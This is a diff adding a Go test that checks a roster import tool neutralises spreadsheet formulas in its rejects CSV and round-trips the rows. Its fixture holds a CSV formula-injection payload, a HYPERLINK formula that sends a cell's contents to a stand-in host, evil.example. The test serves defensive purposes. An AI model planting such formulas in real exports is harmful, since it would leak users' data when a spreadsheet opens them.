@@ -546,3 +546,49 @@ func TestImportPartialRoster(t *testing.T) {
 		t.Fatalf("li: %+v %v", r, err)
 	}
 }
+
+// TestRejectsGuardFormulas: the rejects file Excel opens holds no cell it
+// would run as a formula (= + - @), and fixed and imported again, its rows
+// come back as they were written.
+func TestRejectsGuardFormulas(t *testing.T) {
+	ctx := context.Background()
+	dir := t.TempDir()
+	db := filepath.Join(dir, "l.db")
+	link := `=HYPERLINK("http://evil.example/?x="&B2,"详情")`
+	in := "姓名,证件号码,手机号码,楼栋,房号\n" +
+		`"` + strings.ReplaceAll(link, `"`, `""`) + `",BAD-1,+8613812345678,1,101` + "\n" +
+		"-2+3,BAD-2,,1,@102\n"
+	f := writeFile(t, dir, "r.csv", []byte(in))
+	rej := filepath.Join(dir, "rejects.csv")
+	if code, _, errOut := cli(t, ctx, db, "import", "--skip-invalid", "--rejects", rej, f); code != 0 {
+		t.Fatalf("import: %d %s", code, errOut)
+	}
+	b, _ := os.ReadFile(rej)
+	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\xEF\xBB\xBF")))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, rec := range recs {
+		for _, c := range rec {
+			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+				t.Errorf("rejects cell %q starts a formula", c)
+			}
+		}
+	}
+	if recs[1][0] != "'"+link || recs[1][2] != "'+8613812345678" || recs[2][0] != "'-2+3" || recs[2][4] != "'@102" {
+		t.Fatalf("rejects: %q", recs)
+	}
+	fixed := strings.NewReplacer("BAD-1", testID(t, "11010519491231001"), "BAD-2", testID(t, "11010519520304002")).Replace(string(b))
+	code, out, errOut := cli(t, ctx, db, "--lang", "en", "import", writeFile(t, dir, "fixed.csv", []byte(fixed)))
+	if code != 0 || !strings.Contains(out, "2 inserted") {
+		t.Fatalf("the fixed rejects: exit %d\n%s%s", code, out, errOut)
+	}
+	s := openStore(t, db)
+	r, err := s.ResidentByDocument(ctx, lifeline.Document{Number: testID(t, "11010519491231001")})
+	if err != nil || r.Name != link || len(r.Phones) != 1 || r.Phones[0] != "+8613812345678" {
+		t.Fatalf("round trip: %+v %v", r, err)
+	}
+	if r, _ := s.ResidentByDocument(ctx, lifeline.Document{Number: testID(t, "11010519520304002")}); r == nil || r.Name != "-2+3" || r.Address.Room != "@102" {
+		t.Fatalf("round trip: %+v", r)
+	}
+}
